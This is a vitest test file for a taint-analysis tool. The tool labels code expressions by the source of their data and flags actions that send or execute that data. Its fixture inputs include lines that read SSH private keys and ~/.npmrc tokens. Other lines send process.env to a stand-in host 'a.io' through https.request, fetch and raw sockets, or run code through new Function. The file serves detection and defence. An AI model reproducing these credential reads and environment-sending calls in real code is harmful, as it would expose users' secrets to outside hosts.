import { describe, expect, it } from 'vitest';
import {
  factLines,
  interpretJavaScript,
  interpretPython,
  pythonValueOf,
  valueOf,
} from '../../../tests/taint/interpret-code.ts';
import { CREDENTIAL, DECODED, ENVIRONMENT, FETCHED, FILE, TOOL_TOKEN, VARIABLE } from '../label.ts';
import { UNKNOWN } from '../value.ts';
import { propagate } from './known-api.ts';
import { positional } from './evaluator.ts';

const FS = "const fs = require('fs')";

describe('callKnownApi()', () => {
  it.each([
    ["fs.readFileSync('a.txt')", FILE, 'a.txt'],
    ["fs.readFileSync('/home/a/.ssh/id_rsa')", CREDENTIAL, '/home/a/.ssh/id_rsa'],
    ["fs.readFileSync(require('os').homedir() + '/.npmrc')", TOOL_TOKEN, '~/.npmrc'],
    ["fs.readFileSync(f() + '/.npmrc')", TOOL_TOKEN, '*/.npmrc'],
    ["fetch('http://a.io')", FETCHED, 'fetch'],
    ["Buffer.from('a', 'base64')", DECODED, 'a'],
    ["Deno.env.get('A')", VARIABLE, 'Deno.env.A'],
    ['Deno.env.get(f())', VARIABLE, 'Deno.env[...]'],
  ])('labels the result of %s', (expression, label, what) => {
    const value = valueOf(expression, FS);
    expect(value.labels).toBe(label);
    expect(value.origins[0]?.what).toBe(what);
  });

  it.each([
    "Buffer.from('a')",
    "Buffer.from('a', 'utf8')",
    "require('crypto').createHash('md5').update(process.env).digest()",
    'parseInt(process.env)',
    'fs.existsSync(process.env)',
  ])('has no label: %s', (expression) => {
    expect(valueOf(expression, FS).labels).toBe(0);
  });

  it('keeps the content of the arguments, except in a response', () => {
    expect(valueOf('atob(process.env)').labels).toBe(ENVIRONMENT | DECODED);
    expect(valueOf('fetch(process.env)').labels).toBe(FETCHED);
  });

  it('returns an argument with the content of the others', () => {
    const value = valueOf("new URL('/a', process.env)");
    expect(value.texts).toEqual(['/a']);
    expect(value.labels).toBe(ENVIRONMENT);
  });

  it('has the default value of a variable', () => {
    expect(pythonValueOf("os.getenv('A', 'b')", 'import os').texts).toEqual([UNKNOWN, 'b']);
  });

  it.each([
    ["require('needle')('get', 'http://a.io')", 'http://a.io'],
    ["new Function('a', 'b', 'c()')", 'c()'],
    ["require('fs').copyFile('a', 'b')", 'b'],
    ["require('https').request('http://a.io').end(process.env)", 'http://a.io'],
    ["const s = new (require('net').Socket)(); s.connect('a.io'); s.write('x')", 'a.io'],
    ["const x = new XMLHttpRequest(); x.open('GET', 'http://a.io'); x.send(1)", 'http://a.io'],
  ])('finds the operand of %s', (text, operand) => {
    const { facts } = interpretJavaScript(text);
    expect(facts.at(-1)?.operand.texts).toEqual([operand]);
  });

  it('finds the operand among keyword arguments', () => {
    const { facts } = interpretPython("import requests\nrequests.post(url='http://a.io')");
    expect(factLines(facts)).toEqual(['send requests.post http://a.io']);
  });

  it('sends the arguments without the options that control the request', () => {
    const sent = (options: string): number | undefined =>
      interpretJavaScript(`fetch('http://a.io', ${options})`).facts.find((f) => f.action === 'send')
        ?.content.labels;
    expect(sent('{ body: process.env }')).toBe(ENVIRONMENT);
    expect(sent('{ headers: { a: process.env } }')).toBe(ENVIRONMENT);
    expect(sent('{ agent: process.env, timeout: process.env }')).toBe(0);
    const { facts } = interpretJavaScript('const h = {}; h.headers = h; fetch("http://a.io", h)');
    expect(facts.map((f) => f.content.labels)).toEqual([0]);
  });

  it('executes the text of a timer, not its function', () => {
    const { facts } = interpretJavaScript("setTimeout('a()'); setTimeout(() => 1)");
    expect(factLines(facts)).toEqual(['execute setTimeout a()']);
  });
});

describe('propagate()', () => {
  it('joins the content of the receiver and of all arguments', () => {
    const environment = valueOf('process.env');
    const fetched = valueOf("fetch('http://a.io')");
    expect(propagate(fetched, positional(environment)).labels).toBe(ENVIRONMENT | FETCHED);
  });
});
